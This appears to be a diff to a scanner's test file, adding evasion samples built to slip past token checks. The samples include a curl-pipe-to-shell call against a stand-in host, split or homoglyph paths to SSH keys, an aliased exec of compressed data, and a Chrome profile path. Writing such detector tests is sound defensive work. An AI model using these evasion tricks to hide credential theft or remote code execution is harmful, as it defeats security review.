@@ -123,6 +123,10 @@ EVASIONS = (
     "HOOK = 'https://pasteb\u0131n.com/raw/x'\n",
     "KEY = '~/.\u017fsh/id_rsa'\n",
     "from builtins import (\n    exec as run,\n)\nimport zlib\nrun(zlib.decompress(blob))\n",
+    "import subprocess\nsubprocess.call('\\tcurl -s https://x.invalid/a | \\tsh')\n",
+    "KEY = '~/.s\\\nsh/config'\n",
+    "KEY = '\\tid_ed25519'\n",
+    "P = 'C:\\\\Users\\\\me\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data'\n",
 )
 """Shapes written to slip past token checks (aliases, list-form commands, names by string,
 runners passed by name, fullwidth identifiers, escaped or split literals, spacing, slices with
